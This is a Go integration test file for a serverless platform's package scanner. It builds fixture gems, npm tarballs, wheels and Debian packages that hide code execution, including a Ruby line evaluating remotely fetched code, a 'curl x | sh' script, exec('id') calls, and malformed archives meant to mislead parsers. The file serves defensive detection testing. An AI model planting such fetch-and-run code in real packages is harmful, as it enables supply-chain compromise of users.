package integration

import (
	"archive/tar"
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/pipsqueak-faas/pipsqueak/core"
)

// What does a scan find, and what does it leave?

// scanned is a line of a file of results.
type scanned struct {
	Archive    string           `json:"archive"`
	Digest     string           `json:"digest"`
	Package    string           `json:"package"`
	Suspicions []core.Suspicion `json:"suspicions"`
	Error      string           `json:"error"`
}

// scan runs the real program and returns what it printed and its exit status.
func scan(t testing.TB, args ...string) (string, int) {
	t.Helper()
	requires(t, Root, Cgroups)
	cmd := exec.Command(filepath.Join(programs(t), "pipsqueak"), append([]string{"scan", "--data", filepath.Join(t.TempDir(), "data")}, args...)...)
	said, err := cmd.CombinedOutput()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		t.Fatal(err)
	}
	return string(said), cmd.ProcessState.ExitCode()
}

func results(t testing.TB, file string) map[string]scanned {
	t.Helper()
	text, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	all := map[string]scanned{}
	for lines := bufio.NewScanner(bytes.NewReader(text)); lines.Scan(); {
		var one scanned
		if err := json.Unmarshal(lines.Bytes(), &one); err != nil {
			t.Fatalf("%s: %v", lines.Text(), err)
		}
		if _, twice := all[one.Archive]; twice {
			t.Errorf("%s has two results", one.Archive)
		}
		all[one.Archive] = one
	}
	return all
}

// TestScanFindsAttacks packs packages as attacks of the past had them, each beside things that look alike and are none.
func TestScanFindsAttacks(t *testing.T) {
	requires(t, Root, Cgroups, Runtime("python3"), Runtime("node"), Runtime("ruby"), Runtime("dpkg-deb"))
	dir := t.TempDir()
	want := map[string][]string{}
	for _, attack := range attacks {
		want[attack.archive] = places(attack.content, attack.besides...)
		pack(t, filepath.Join(dir, attack.archive), maps.Clone(attack.content))
	}
	out := filepath.Join(t.TempDir(), "scan.jsonl")
	said, status := scan(t, dir, "--out", out)
	if status != 0 {
		t.Fatalf("status %d: %s", status, said)
	}
	found := results(t, out)
	for _, attack := range attacks {
		var got []string
		if one := found[filepath.Join(dir, attack.archive)]; one.Error != "" || one.Package == "" {
			t.Errorf("%s was not scanned: %q", attack.archive, one.Error)
		}
		for _, s := range found[filepath.Join(dir, attack.archive)].Suspicions {
			got = append(got, fmt.Sprintf("%s %s:%d", s.Rule, s.File, s.Line))
			if s.Reason == "" || s.Package != found[filepath.Join(dir, attack.archive)].Package {
				t.Errorf("%+v", s)
			}
		}
		slices.Sort(got)
		if !slices.Equal(got, want[attack.archive]) {
			t.Errorf("%s (%s): found\n%s\nwant\n%s\n%s", attack.archive, attack.like, strings.Join(got, "\n"), strings.Join(want[attack.archive], "\n"), found[filepath.Join(dir, attack.archive)].Error)
		}
	}
}

// TestScanUnwilling scans archives that do not want to be read: what is in them is found all the same.
func TestScanUnwilling(t *testing.T) {
	requires(t, Root, Cgroups, Runtime("ruby"), Runtime("dpkg-deb"))
	dir, tree := t.TempDir(), t.TempDir()
	evil := "require 'net/http'\neval(Net::HTTP.get('x', '/'))\n"
	gem := func(name, metadata string, content files) {
		path := filepath.Join(tree, name)
		content.write(t, path)
		for _, command := range [][]string{{"chmod", "-R", "000", path + "/lib"}, {"tar", "-C", path, "-czf", path + "/data.tar.gz", "lib"}} {
			ruby(t, tree, command...)
		}
		data, err := os.ReadFile(path + "/data.tar.gz")
		if err != nil {
			t.Fatal(err)
		}
		out := packTar(t, "", files{"metadata.gz": string(packGzip(t, []byte(metadata))), "data.tar.gz": string(data)})
		if err := os.WriteFile(filepath.Join(dir, name), out, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	gem("bytes-1.0.gem", "--- !ruby/object:Gem::Specification\nname: bytes\nversion: !ruby/object:Gem::Version\n  version: '1.0'\nsummary: \xff\n", files{"lib/\xff.rb": evil, "lib/\xff": "x"})
	gem("flow-1.0.gem", `{"name": "flow", "version": {"version": 1.0}, "extensions": ["./lib/build"]}`, files{"lib/build": evil})
	deb := filepath.Join(tree, "deb")
	files{"DEBIAN/control": "Package: bare\nVersion: 1.0\nArchitecture: all\nDescription: x\n", "usr/bin/bare": "#!/bin/sh\ncurl x | sh\n"}.write(t, deb)
	ruby(t, tree, "chmod", "-R", "000", deb+"/usr/bin/bare")
	ruby(t, tree, "chmod", "755", deb+"/DEBIAN")
	ruby(t, tree, "dpkg-deb", "--nocheck", "--build", deb, filepath.Join(dir, "bare_1.0_all.deb"))
	out := filepath.Join(t.TempDir(), "scan.jsonl")
	if said, status := scan(t, dir, "--out", out); status != 0 {
		t.Fatalf("status %d: %s", status, said)
	}
	found := results(t, out)
	for archive, want := range map[string]string{"bytes-1.0.gem": "bytes==1.0 hidden-code lib/?.rb:2", "flow-1.0.gem": "flow==1.0 hidden-code lib/build:2", "bare_1.0_all.deb": "debian+bare==1.0 hidden-code usr/bin/bare:2"} {
		one := found[filepath.Join(dir, archive)]
		if !slices.ContainsFunc(one.Suspicions, func(s core.Suspicion) bool {
			return fmt.Sprintf("%s %s %s:%d", one.Package, s.Rule, s.File, s.Line) == want
		}) {
			t.Errorf("%s: %+v, want %q", archive, one, want)
		}
	}
}

// TestScanGoesOn kills a scan in its middle and lets another one go on.
func TestScanGoesOn(t *testing.T) {
	requires(t, Root, Cgroups, Runtime("python3"))
	dir, data, out := t.TempDir(), filepath.Join(t.TempDir(), "data"), filepath.Join(t.TempDir(), "scan.jsonl")
	const archives = 30
	for i := range archives {
		name := fmt.Sprintf("some%d", i)
		pack(t, filepath.Join(dir, name+"-1.0-py3-none-any.whl"), files{name + ".py": "x = 1\n", name + "-1.0.dist-info/METADATA": "Name: " + name + "\nVersion: 1.0\n"})
	}
	program := filepath.Join(programs(t), "pipsqueak")
	cmd := exec.Command(program, "scan", "--data", data, "--out", out, "--jobs", "1", dir)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	lines := func() int {
		text, _ := os.ReadFile(out)
		return bytes.Count(text, []byte("\n"))
	}
	for deadline := time.Now().Add(time.Minute); lines() < 3 && time.Now().Before(deadline); {
		time.Sleep(5 * time.Millisecond)
	}
	_ = cmd.Process.Kill()
	_ = cmd.Wait()
	before := lines()
	if before < 3 || before >= archives {
		t.Fatalf("%d results when it was killed", before)
	}
	file, err := os.OpenFile(out, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := file.WriteString(`{"archive":"half`); err != nil {
		t.Fatal(err)
	}
	file.Close()
	if said, err := exec.Command(program, "scan", "--data", data, "--out", out, dir).CombinedOutput(); err == nil || !strings.Contains(string(said), "--resume") {
		t.Errorf("an existing file is overwritten: %v %s", err, said)
	}
	said, err := exec.Command(program, "scan", "--data", data, "--out", out, "--resume", dir).CombinedOutput()
	if err != nil {
		t.Fatalf("%v: %s", err, said)
	}
	if all := results(t, out); len(all) != archives {
		t.Errorf("%d results of %d archives", len(all), archives)
	}
	if told := fmt.Sprintf("%d packages scanned, %d of them earlier", archives, before); !strings.Contains(string(said), told) {
		t.Errorf("it said %s, and not %q", said, told)
	}
	if left, err := os.ReadDir(data); err != nil || len(left) > 0 {
		t.Errorf("what was unpacked is left: %v, %v", left, err)
	}
}

// TestInterruptedScan ends scans by signals, as early as they have made something and later: nothing is left.
// Of one that was killed, the next worker on the directory removes what is left.
func TestInterruptedScan(t *testing.T) {
	requires(t, Root, Cgroups, Runtime("python3"))
	dir, data := t.TempDir(), t.TempDir()
	for i := range 100 {
		name := fmt.Sprintf("some%d", i)
		pack(t, filepath.Join(dir, name+"-1.0-py3-none-any.whl"), files{name + ".py": "x = 1\n", name + "-1.0.dist-info/METADATA": "Name: " + name + "\nVersion: 1.0\n"})
	}
	place := filepath.Join(data, "scanning")
	name := fmt.Sprintf("pipsqueak-%x", sha256.Sum256([]byte(place)))[:18]
	left := func() []string {
		all, _ := filepath.Glob(place)
		run, _ := filepath.Glob("/run/" + name)
		return slices.Concat(all, run, groupsNamed(name))
	}
	const first, later = "as soon as it has a directory", "when it has results"
	for _, how := range []struct {
		signal os.Signal
		when   string
	}{{os.Interrupt, first}, {syscall.SIGTERM, first}, {os.Interrupt, later}, {syscall.SIGTERM, later}, {os.Kill, later}} {
		out := filepath.Join(t.TempDir(), "scan.jsonl")
		cmd := exec.Command(filepath.Join(programs(t), "pipsqueak"), "scan", "--data", data, "--out", out, dir)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		eventually(t, time.Minute, how.when, func() bool {
			_, err := os.Stat(place)
			text, _ := os.ReadFile(out)
			return err == nil && (how.when == first || len(text) > 0)
		})
		_ = cmd.Process.Signal(how.signal)
		_ = cmd.Wait()
		if how.signal == os.Kill {
			if found := left(); len(found) < 3 {
				t.Errorf("of a scan that was killed only %q is left", found)
			}
			startWorker(t, data)
		} else if got := cmd.ProcessState.ExitCode(); got != 2 {
			t.Errorf("%v %s: it exits with %d", how.signal, how.when, got)
		}
		if found := left(); len(found) > 0 {
			t.Errorf("%v %s leaves %q", how.signal, how.when, found)
		}
	}
}

// TestScanStatus is what the program exits with, and what it does with archives that are none.
func TestScanStatus(t *testing.T) {
	requires(t, Root, Cgroups, Runtime("python3"), Runtime("node"), Runtime("ruby"), Runtime("dpkg-deb"))
	dir := t.TempDir()
	wheel := filepath.Join(dir, "bad-1.0-py3-none-any.whl")
	pack(t, wheel, files{"bad.py": "import os\nos.system('id')\n", "bad-1.0.dist-info/METADATA": "Name: bad\nVersion: 1.0\n"})
	write := func(name, text string) string {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		return path
	}
	refuse := write("refuse.yaml", "rules:\n  process: refuse\n")
	excepted := write("excepted.yaml", "rules:\n  process: refuse\nexceptions:\n  - package: bad\n    version: \"1.0\"\n    reason: it is a test\n    until: 2126-01-01\n")
	list := write("list.txt", "# a list\n\nbad-1.0-py3-none-any.whl\n")
	for _, test := range []struct {
		name   string
		args   []string
		status int
		said   string
	}{
		{"warns", []string{wheel}, 0, "bad.py:2"},
		{"refuses", []string{wheel, "--policy", refuse}, 1, "refuse.yaml:2"},
		{"excepts", []string{wheel, "--policy", excepted}, 0, "excepted.yaml:4"},
		{"a list", []string{list, "--policy", refuse}, 1, "bad.py:2"},
		{"as json", []string{wheel, "-o", "json"}, 0, `"rule": "process"`},
		{"a wrong policy", []string{wheel, "--policy", write("wrong.yaml", "rules:\n  programs: refuse\n")}, 2, "line 2"},
		{"a wrong list", []string{write("wrong.txt", "nothing.whl\n")}, 2, "line 1"},
		{"nothing", []string{t.TempDir()}, 2, "nothing to scan"},
		{"not there", []string{"/nonexistent"}, 2, "no such file"},
		{"another runtime", []string{wheel, "--runtime", "python9.9"}, 2, "python9.9"},
		{"no jobs", []string{wheel, "--jobs", "0"}, 2, "--jobs"},
		{"an empty wheel", []string{write("empty-1-py3-none-any.whl", "")}, 2, "cannot be unpacked"},
		{"a wrong sdist", []string{write("wrong-1.tar.gz", "no archive")}, 2, "cannot be unpacked"},
		{"a wrong npm package", []string{write("wrong-1.tgz", "no archive")}, 2, "cannot be unpacked"},
		{"a wrong gem", []string{write("wrong-1.gem", "no archive")}, 2, "cannot be unpacked"},
		{"a wrong Debian package", []string{write("wrong_1_all.deb", "no archive")}, 2, "cannot be unpacked"},
	} {
		t.Run(test.name, func(t *testing.T) {
			said, status := scan(t, test.args...)
			if status != test.status || !strings.Contains(said, test.said) {
				t.Errorf("status %d, want %d, and %q in:\n%s", status, test.status, test.said, said)
			}
		})
	}
}

// TestScanAtDeploy deploys with policies: what they refuse is not deployed, and each decision is in the log.
func TestScanAtDeploy(t *testing.T) {
	system(t)
	policy := filepath.Join(t.TempDir(), "policy.yaml")
	write := func(text string) {
		if err := os.WriteFile(policy, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	f := handlerFile("import markupsafe\n\ndef handler(event, context):\n    return str(markupsafe.escape('<'))\n").with("requirements.txt", "markupsafe==3.0.2\n")
	data := t.TempDir()
	write("rules:\n  binary: refuse\n")
	w := startWorker(t, data, "--scan-policy", policy)
	e := w.put(t, "strict", f).expectError(t, core.KindInstall, core.FaultCaller, 422)
	for _, word := range []string{"policy.yaml:2", "markupsafe==3.0.2", "_speedups", "exception"} {
		if !strings.Contains(e.Message, word) {
			t.Errorf("the error does not say %q: %s", word, e.Message)
		}
	}
	w.ask(t, "GET", "/v1/functions/strict", nil).expectError(t, core.KindNotFound, core.FaultCaller, 404)
	if err := w.stop(); err != nil {
		t.Fatal(err)
	}
	write("rules:\n  binary: refuse\nexceptions:\n  - package: markupsafe\n    reason: it is known\n")
	w = startWorker(t, data, "--scan-policy", policy)
	w.deploy(t, "strict", f)
	if a := w.run(t, "strict", "{}"); !strings.Contains(string(a.body), "&lt;") {
		t.Errorf("it answers %s", a.body)
	}
	if log := w.logs.String(); !strings.Contains(log, "decision=allow") || !strings.Contains(log, "by=policy.yaml:4") {
		t.Errorf("the decision is not in the log:\n%s", log)
	}
}

// TestKilledScan kills a worker while it scans the packages of a deploy: nothing is left of it, and the next worker deploys the same.
func TestKilledScan(t *testing.T) {
	system(t)
	scanned := files{"py_scanned/__init__.py": ""}
	for i := range 300 { // it takes its time
		scanned[fmt.Sprintf("py_scanned/m%d.py", i)] = strings.Repeat("def f(a, b):\n    return [a, b, {a: b}, f(b, a)]\n", 100)
	}
	newPythonIndex(t, "").addWheel(t, "py-scanned", "1.0", "", scanned)
	data, policy := t.TempDir(), filepath.Join(t.TempDir(), "policy.yaml")
	if err := os.WriteFile(policy, []byte("default: refuse\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	f := handlerFile("import py_scanned\n\ndef handler(event, context):\n    return py_scanned.__name__\n").with("requirements.txt", "py-scanned\n")
	first, err := start(programs(t), data, "--scan-policy", policy)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = first.stop() }) // for a test that fails before it kills
	ended := make(chan answer, 1)
	go func() {
		a, err := first.do(t.Context(), http.MethodPut, "/v1/functions/scanned", bytes.NewReader(f.archive(t)))
		if err != nil {
			a = answer{body: []byte(err.Error())}
		}
		ended <- a
	}()
	eventually(t, time.Minute, "it scans", func() bool {
		return slices.ContainsFunc(descendants(first.cmd.Process.Pid), func(pid int) bool {
			return strings.Contains(commandLine(pid), "scan.py") && syscall.Kill(pid, syscall.SIGSTOP) == nil // so that it goes on until it is killed
		})
	})
	seen, err := traces(first)
	if err != nil {
		t.Fatal(err)
	}
	first.kill()
	if a := <-ended; a.status != 0 {
		t.Fatalf("the deploy had ended with %v", a)
	}

	next := startWorker(t, data, "--scan-policy", policy)
	eventually(t, 10*time.Second, "nothing is left of the killed worker", func() bool { return len(seen.left()) == 0 })
	next.ask(t, http.MethodGet, "/v1/functions/scanned", nil).expectError(t, core.KindNotFound, core.FaultCaller, http.StatusNotFound)
	next.deploy(t, "scanned", f)
	if got := result[string](t, next, "scanned", `{}`); got != "py_scanned" {
		t.Errorf("it answers %q", got)
	}
	eventually(t, 10*time.Second, "nothing is left in staging", func() bool {
		left, err := os.ReadDir(filepath.Join(data, "staging"))
		return err == nil && len(left) == 0
	})
	if found := next.verify(t); found.Trees != 2 || len(found.Damaged) > 0 {
		t.Errorf("the store has %+v", found)
	}
	if scans, err := os.ReadDir(filepath.Join(data, "scans")); err != nil || len(scans) != 1 {
		t.Errorf("of the scans the store has %v: %v", scans, err)
	}
}

// TestScanOddArchives scans npm archives that are made to be read otherwise than npm reads them.
func TestScanOddArchives(t *testing.T) {
	requires(t, Root, Cgroups, Runtime("node"))
	dir := t.TempDir()
	write := func(name string, headers ...tar.Header) {
		var out bytes.Buffer
		w := tar.NewWriter(&out)
		for _, h := range headers {
			text := h.PAXRecords["text"]
			h.PAXRecords, h.Mode, h.Size = nil, 0o644, int64(len(text))
			err := w.WriteHeader(&h)
			if _, werr := w.Write([]byte(text)); err != nil || werr != nil {
				t.Fatal(err, werr)
			}
		}
		if err := errors.Join(w.Close(), os.WriteFile(filepath.Join(dir, name), packGzip(t, out.Bytes()), 0o644)); err != nil {
			t.Fatal(err)
		}
	}
	file := func(name, text string) tar.Header {
		return tar.Header{Name: name, Typeflag: tar.TypeReg, PAXRecords: map[string]string{"text": text}}
	}
	manifest := file("package/package.json", `{"name":"p","version":"1.0.0","scripts":{"install":"node x"}}`)
	write("two.tgz", file("aaa/package.json", `{"name":"innocent","version":"1.0.0"}`), manifest, file("package/index.js", "require('child_process').exec('id')"))
	write("data.tgz", file("package/package.json", `{"name":"d","version":"1.0.0","main":"./logo.txt"}`), file("package/logo.txt", "require('child_process').exec('id')"))
	started := func(how, does string) []tar.Header {
		return []tar.Header{file("package/package.json", `{"name":"o","version":"1.0.0"}`), file("package/index.js", how), file("package/lib/run.js", does)}
	}
	for name, files := range map[string][]tar.Header{
		"require.tgz":  started("require('./lib/run').go();", "exports.go = () => require('child_process').exec('id');"),
		"default.tgz":  started("require('./lib/run.js')();", "const cp = require('child_process');\nmodule.exports = function () { cp.spawn('id'); };"),
		"object.tgz":   started("const { go } = require('./lib/run');\nfunction later() { go(); }\nlater();", "const { exec } = require('child_process');\nfunction go() { exec('id'); }\nmodule.exports = { go };"),
		"import.tgz":   started("import { go as start } from './lib/run.js';\nstart();", "import { exec } from 'child_process';\nexport const go = () => exec('id');"),
		"all.tgz":      started("import * as run from './lib/run.js';\nrun.go();", "import { exec } from 'child_process';\nexport { inner as go };\nfunction inner() { exec('id'); }"),
		"other.tgz":    started("import go from './lib/run.js';\ngo();", "import { execFile } from 'child_process';\nexport default () => execFile('id');"),
		"innocent.tgz": started("const run = require('./lib/run');\nexports.go = () => run.go();\nrun.other();", "exports.go = () => require('child_process').exec('id');\nexports.other = () => 1;"),
	} {
		write(name, files...)
	}
	write("fifo.tgz", tar.Header{Name: "package/package.json", Typeflag: tar.TypeFifo})
	write("link.tgz", tar.Header{Name: "package/package.json", Typeflag: tar.TypeSymlink, Linkname: "/dev/zero"})
	out := filepath.Join(t.TempDir(), "scan.jsonl")
	if said, status := scan(t, dir, "--out", out); status != 2 {
		t.Errorf("status %d: %s", status, said)
	}
	found := results(t, out)
	two := found[filepath.Join(dir, "two.tgz")]
	if two.Package != "p==1.0.0" || len(two.Suspicions) != 2 {
		t.Errorf("%+v", two)
	}
	if data := found[filepath.Join(dir, "data.tgz")]; len(data.Suspicions) != 2 || data.Suspicions[0].Rule != "hidden-code" || data.Suspicions[1].Rule != "process" {
		t.Errorf("%+v", data)
	}
	for _, name := range []string{"require.tgz", "default.tgz", "object.tgz", "import.tgz", "all.tgz", "other.tgz"} {
		if one := found[filepath.Join(dir, name)]; len(one.Suspicions) != 1 || one.Suspicions[0].Rule != "process" || one.Suspicions[0].File != "index.js" {
			t.Errorf("%s: %+v", name, one)
		}
	}
	if one := found[filepath.Join(dir, "innocent.tgz")]; len(one.Suspicions) != 0 {
		t.Errorf("%+v", one)
	}
	for _, name := range []string{"fifo.tgz", "link.tgz"} {
		if one := found[filepath.Join(dir, name)]; !strings.Contains(one.Error, "there is no package.json in it") {
			t.Errorf("%+v", one)
		}
	}
}
